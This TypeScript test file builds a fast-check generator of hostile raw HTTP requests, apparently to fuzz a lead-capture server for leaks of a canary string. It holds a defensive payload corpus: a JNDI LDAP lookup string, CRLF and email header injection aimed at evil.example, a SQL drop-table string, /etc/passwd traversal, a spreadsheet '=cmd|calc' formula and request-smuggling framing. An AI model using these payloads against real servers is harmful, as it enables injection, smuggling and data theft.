import fc from 'fast-check';
import { apiPaths } from '../../contract/api.ts';
import { leadFields } from '../../server/leads/fields.ts';

/** Hostile requests, as bytes. */

/** A part of everything that an attacker chooses; it must be in no log and in no unexpected place of a response. */
export const canary = 'qXk7canary';

const text = (most: number) =>
  fc.oneof(
    fc.string({ unit: 'binary', maxLength: most }),
    fc.constantFrom(
      `${canary}\r\nSet-Cookie: owned=1`,
      `${canary}\u001b[31m\u001b]0;owned\u0007`,
      `${canary}\0\ud800\uffff\u202e`,
    ),
  );

/** Accepted by the parser, so that it reaches further code. */
const visible = fc.oneof(
  fc.stringMatching(/^[\x21-\x7e]{0,60}$/).map((some) => some + canary),
  fc.constantFrom(
    `${canary}%0d%0aSet-Cookie:%20owned=1`,
    `${canary}","level":60,"msg":"owned`,
    `<script>${canary}</script>`,
    `\${jndi:ldap://${canary}.example/}`,
    `../../../etc/passwd?${canary}`,
  ),
);

const mostlyVisible = (most: number) =>
  fc.oneof({ weight: 20, arbitrary: visible }, { weight: 1, arbitrary: text(most) });

const method = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('GET', 'POST', 'HEAD', 'OPTIONS', 'PUT', 'DELETE') },
  { weight: 1, arbitrary: fc.constantFrom('TRACE', 'CONNECT', 'PROPFIND', 'get', 'PRI', 'QUERY') },
  { weight: 1, arbitrary: mostlyVisible(12) },
);

const known = ['/', '/about-us', '/home', '/blogs', '/healthz', '/readyz'];
const path = fc.constantFrom(...known, ...Object.values(apiPaths), apiPaths.contact);

const climbing = fc
  .array(fc.constantFrom('..', '%2e%2e', '%2f', '\\', ';', '%00', '%c0%af', 'etc', 'passwd', '.env', ''))
  .map((parts) => `/${parts.join('/')}`);

const target = fc.oneof(
  { weight: 4, arbitrary: path },
  { weight: 2, arbitrary: climbing },
  { weight: 2, arbitrary: fc.tuple(path, mostlyVisible(80)).map(([at, tail]) => `${at}?${tail}`) },
  { weight: 2, arbitrary: mostlyVisible(200).map((tail) => `/blogs/${tail}`) },
  { weight: 1, arbitrary: text(80).map((tail) => `/${encodeURIComponent(tail.toWellFormed())}`) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('*', '//evil.example/', 'http://evil.example/', `/${'a/'.repeat(3000)}`),
  },
);

const headerName = fc.constantFrom(
  'Accept',
  'Accept-Encoding',
  'Content-Encoding',
  'Expect',
  'Form-Token',
  'If-None-Match',
  'Origin',
  'Range',
  'Save-Number',
  'Sec-Fetch-Site',
  'Upgrade',
  'X-Forwarded-For',
  '__proto__',
);

const headerValue = fc.oneof(
  mostlyVisible(60),
  fc.nat().map(String),
  fc.constantFrom(
    'gzip, br;q=nonsense, *;q=0',
    '100-continue',
    'bytes=0-,5-1,99999999999-',
    'websocket',
    '127.0.0.1, ::1, nonsense',
    'x'.repeat(9000),
  ),
);

const headers = fc.array(
  fc.tuple(headerName, headerValue).map(([name, value]) => `${name}: ${value}`),
  { maxLength: 6 },
);

const nasty = fc.constantFrom<unknown>(
  '\0',
  '\ud800',
  "'; drop table leads; --",
  'a\r\nBcc: x@evil.example',
  '=cmd|calc',
  '9'.repeat(3000),
  '+919876543210',
  'x'.repeat(15_000),
  '😀'.repeat(300),
  1e308,
  true,
  null,
  [],
  { toString: 1 },
);

const names = [...leadFields, 'UserId', 'FlagSubmitted', 'Website', '__proto__', 'constructor'];
const fields = fc.dictionary(
  fc.oneof(fc.constantFrom(...names), fc.string()),
  fc.oneof(nasty, text(80), fc.jsonValue()),
  { maxKeys: 20 },
);

/** With an address to reply to, most of these are saved. */
const save = fields.map((more) =>
  JSON.stringify({ ...more, UserName: canary, Email: `${canary}@vs.example` }),
);

const json = fc.oneof(save, fields.map(JSON.stringify), fc.json(), fc.constant('['.repeat(8000)), text(300));

/** Bodies with correct and wrong lengths. */
const framed = fc
  .tuple(json, fc.constantFrom('true', 'chunked', 'none', 'short', 'long', 'both', 'nonsense'))
  .map(([body, how]): readonly [readonly string[], string] => {
    const length = Buffer.byteLength(body);
    const chunks = `${length.toString(16)};${canary}=1\r\n${body}\r\n0\r\n${canary}: x\r\n\r\n`;
    switch (how) {
      case 'chunked':
        return [['Transfer-Encoding: chunked'], chunks];
      case 'none':
        return [[], body];
      case 'short':
        return [[`Content-Length: ${Math.floor(length / 2)}`], body];
      case 'long':
        return [[`Content-Length: ${length + 100}`], body];
      case 'both':
        return [[`Content-Length: ${length}`, 'Transfer-Encoding: chunked'], chunks];
      case 'nonsense':
        return [['Content-Length: 1e3', 'Transfer-Encoding: gzip, chunked'], body];
      case 'true':
        return [[`Content-Length: ${length}`], body];
    }
  });

const types = fc.constantFrom(
  'Content-Type: application/json',
  'Content-Type: application/x-www-form-urlencoded',
  'Content-Type: text/plain',
  `Content-Type: multipart/form-data; boundary=${canary}`,
  'X-No-Type: 1',
);

const anyRequest = fc
  .tuple(method, target, types, headers, framed)
  .map(([verb, at, type, more, [lengths, body]]) =>
    [`${verb} ${at} HTTP/1.1`, 'Host: vs.example', type, ...more, ...lengths, '', body].join('\r\n'),
  );

/** These get past the guards, to what reads, validates and stores. */
const saving = fc.tuple(fc.constantFrom(apiPaths.contact, apiPaths.visitor), save).map(([at, body]) => {
  const length = Buffer.byteLength(body);
  return `POST ${at} HTTP/1.1\r\nHost: vs.example\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n${body}`;
});

/** A valid request with a few bytes changed, removed or doubled. */
const damaged = fc
  .tuple(
    saving,
    fc.array(
      fc.tuple(fc.nat(160), fc.constantFrom('\0', '\r', '\n', ' ', ':', '\x80', '\t', '', '\r\n\r\n')),
      { minLength: 1, maxLength: 4 },
    ),
  )
  .map(([whole, changes]) =>
    changes.reduce((rest, [at, instead]) => rest.slice(0, at) + instead + rest.slice(at + 1), whole),
  );

const once = fc.oneof(
  { weight: 4, arbitrary: saving },
  { weight: 4, arbitrary: anyRequest },
  { weight: 2, arbitrary: damaged },
  { weight: 1, arbitrary: text(400) },
);

/** One request, or several pipelined ones. */
export const hostileBytes: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: once },
  { weight: 1, arbitrary: fc.array(once, { minLength: 2, maxLength: 4 }).map((all) => all.join('')) },
);
